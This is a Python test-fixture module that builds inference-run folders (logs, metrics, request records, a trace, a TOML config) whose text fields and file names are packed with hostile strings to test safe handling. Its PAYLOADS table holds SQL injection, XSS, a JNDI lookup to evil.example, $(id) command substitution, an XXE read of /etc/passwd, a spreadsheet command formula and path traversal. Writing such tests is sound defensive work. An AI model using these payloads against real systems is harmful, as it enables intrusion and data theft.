"""Run folders in which every text that a file may carry is an attack or an accident."""

import gzip
import json
import lzma
import os
from pathlib import Path

from builders_nsys import NsysFile

SAMPLE = Path(__file__).resolve().parent.parent / "sample_traces" / "gpu_story"
#: Stands in every text that asks for a connection; no output may link to it.
HOST = "evil.example"
#: What the texts carry, by what it is aimed at.
PAYLOADS = {
    "sql": "'; drop table runs; --",
    "sql_quotes": 'x"; drop table findings; --" \' \\\' "" $$',
    "pipes": "| a | b |",
    "code": "`code` ``` ~~~ x",
    "link": f"[click](http://{HOST}/x) [ref]: http://{HOST}/r",
    "image": f"![img](http://{HOST}/i.png)",
    "heading": "# heading",
    "comment": "<!-- hidden",
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "quote": "' onmouseover='alert(1)",
    "entities": "&lt;b&gt;&#60;script&#62;&amp;",
    "svg": "]]></svg><svg onload=alert(1)>",
    "style": "</style></title><b>",
    "colour": "\x1b[31mred\x1b[0m",
    "hyperlink": f"\x1b]8;;http://{HOST}/osc\x07here\x1b]8;;\x07",
    "bell": "\x07\x08\x7f",
    "c1": "\x9b31m\x85\x90x",
    "separators": "\u2028line\u2029",
    "path": "../../../../tmp/kvcliff_escaped",
    "windows": "..\\..\\x:stream",
    "reversed": "\u202egnp.exe\u202c\u2066x",
    "invisible": "zero\u200bwidth\ufeff\u2060\u00ad",
    "combining": "a" + "\u0301" * 10_000,
    "emoji": "👩\u200d👩\u200d👧" * 40,
    "template": "{{7*7}} ${jndi:ldap://" + HOST + "/a} $(id) %s %(x)s {0} {name}",
    "mathtext": "$x^2_{$ \\frac $",
    "scheme": f"javascript:alert(1) http://{HOST}/auto www.{HOST} a@{HOST}",
    "anchor": f"<a href=http://{HOST}>x</a>",
    "mention": "@everyone #1 !2",
    "openmetrics": 'x"} 1\n# EOF',
    "xml": "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "formula": "=cmd|' /C calc'!A0",
    "nul": "nul\x00byte",
    "lines": "first\n# heading\n\n<b>x</b>\r\n| - | - |",
    "long": "M" * 1_000_000,
}
#: All of them in one text, without the two giants.
ALL = " ".join(text for name, text in PAYLOADS.items() if name not in ("combining", "long"))
#: Bytes that are no UTF-8, and the encoding of a lone surrogate.
BROKEN_UTF8 = b"\xff\xfe broken \xed\xa0\x80 \xc3"
_START_NS = 1_779_630_013_000_000_000


def _file_name(text: str) -> str:
    """Return the part of a text that a file name can hold."""
    return text.replace("/", "\u2215").replace("\x00", "").encode()[:120].decode(errors="ignore")


def _label(text: str) -> str:
    return text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")


def _toml(text: str) -> str:
    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")


def _metrics(text: str) -> bytes:
    content = lzma.decompress((SAMPLE / "metrics.prom.xz").read_bytes()).decode()
    content = content.replace('model_name="example-8b"', f'model_name="{_label(text)}"')
    head = f'vllm:num_requests_waiting_by_reason{{engine="0",model_name="{_label(text)}"'
    series = "".join(f'{head},reason="{_label(extra)}"}} 1\n' for extra in PAYLOADS.values())
    return content.encode() + series.encode() + b'odd{a="' + BROKEN_UTF8 + b'"} 1\n'


def _log(text: str) -> bytes:
    content = gzip.decompress((SAMPLE / "server.log.gz").read_bytes()).decode()
    one_line = text.replace("\n", " ").replace("'", '"')
    content = content.replace("'example-8b'", f"'{one_line}'")
    head = "(EngineCore pid=3950) ERROR 05-24 15:41:00 [core.py:1] "
    errors = "".join(
        f"{head}{word}{extra}\n"
        for extra in PAYLOADS.values()
        for word in (
            "",
            "EngineCore encountered a fatal error. ",
            "torch.OutOfMemoryError: CUDA out of memory. ",
        )
    )
    return content.encode() + errors.encode() + BROKEN_UTF8 + b"\n"


def _requests(text: str) -> bytes:
    lines = gzip.decompress((SAMPLE / "requests.jsonl.gz").read_bytes()).decode().splitlines()
    changed = []
    texts = tuple(PAYLOADS.values())
    for number, line in enumerate(lines):
        record = json.loads(line)
        record["id"] = f"{texts[number % len(texts)][:2000]}{record['id']}"
        record["tag"] = texts[(number + 1) % len(texts)] if number % 3 else text
        record["user"] = text
        if number % 17 == 5:
            record["error"] = text
        changed.append(json.dumps(record))
    changed.append('{"id": "\\ud800 lone", "submit_ns": "' + PAYLOADS["script"] + '"}')
    return "\n".join(changed).encode() + b"\n" + BROKEN_UTF8 + b"\n"


def _trace(path: Path) -> None:
    trace = NsysFile(utc_ns=_START_NS)
    trace.gpu(name=PAYLOADS["script"])
    at_ns = 1_000_000
    for number, text in enumerate(PAYLOADS.values()):
        trace.range(f"execute_context_1(9)_generation_{number}({number})", at_ns, at_ns + 900_000)
        trace.range(text, at_ns + 10, at_ns + 500)
        trace.range(text, at_ns + 600, at_ns + 700, inline=True)
        for step in range(4):
            begin = at_ns + 20 + step * 1000
            trace.kernel(text.replace("\x00", "\\0"), begin, begin + 800)
        trace.launch(at_ns + 50_000, name=text)
        at_ns += 1_000_000
    trace.meta("HOST", ALL, "META_DATA_CAPTURE")
    trace.write(path)


def _config(text: str, *, name: str | None) -> str:
    labels = "".join(
        f"{_toml(f'{key} {extra[:300]}')} = {_toml(extra[:3000])}\n" for key, extra in PAYLOADS.items()
    )
    rules = f'[[file]]\npath = "*.log"\nreplica = {_toml(text)}\n' if name is not None else ""
    return (
        (f"name = {_toml(name)}\n" if name is not None else "")
        + f"[labels]\n{labels}\n[model]\nname = {_toml(text)}\ntype = {_toml(text)}\n".replace(
            "name =", "model_name =", 1
        ).replace("type =", "model_type =", 1)
        + f"[gpu]\nname = {_toml(text)}\n{rules}"
    )


def write_hostile_run(folder: Path, name: str | None = None) -> Path:
    """Write one run with log, scrapes, client, trace, configuration and files of no format; return it.

    Args:
        folder: where it lies.
        name: its name in run.toml; without one the folder names it.
    """
    folder.mkdir(parents=True)
    (folder / f"m {_file_name(PAYLOADS['script'])}.prom").write_bytes(_metrics(ALL))
    (folder / f"s {_file_name(PAYLOADS['colour'] + PAYLOADS['link'])}.log").write_bytes(_log(ALL))
    (folder / f"r {_file_name(PAYLOADS['sql'] + PAYLOADS['lines'])}.jsonl").write_bytes(_requests(ALL))
    _trace(folder / f"t {_file_name(PAYLOADS['reversed'] + PAYLOADS['attribute'])}.sqlite")
    for number, text in enumerate(PAYLOADS.values()):
        (folder / f"{number} {_file_name(text)}.bin").write_bytes(b"\x00\x01\x02")
    Path(os.fsdecode(os.fsencode(folder / "x") + b" \xff\xfe.log")).write_bytes(_log("m"))
    (folder / "run.toml").write_text(_config(ALL, name=name), encoding="utf-8")
    return folder


def write_hostile_sweep(folder: Path) -> Path:
    """Write a run whose level folders carry the texts; return it."""
    for number, key in enumerate(("script", "link", "colour", "pipes", "reversed", "mathtext"), start=1):
        level = folder / f"{_file_name(PAYLOADS[key])} c{number}"
        level.mkdir(parents=True)
        (level / "metrics.prom").write_bytes(_metrics("m"))
        (level / "server.log").write_bytes(_log("m"))
        (level / "requests.jsonl").write_bytes(_requests("m"))
    return folder
